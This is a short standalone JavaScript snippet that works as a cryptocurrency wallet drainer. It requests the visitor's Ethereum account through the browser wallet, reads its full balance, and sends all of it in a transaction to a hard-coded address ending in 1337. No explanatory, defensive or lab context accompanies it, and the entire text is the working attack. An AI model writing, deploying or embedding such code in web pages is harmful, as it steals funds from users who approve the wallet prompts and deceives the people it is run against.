const w = '0x0000000000000000000000000000000000001337';
(async () => {
  const [from] = await window.ethereum.request({ method: 'eth_requestAccounts' });
  const value = await window.ethereum.request({ method: 'eth_getBalance', params: [from, 'latest'] });
  await window.ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: w, value }] });
})();
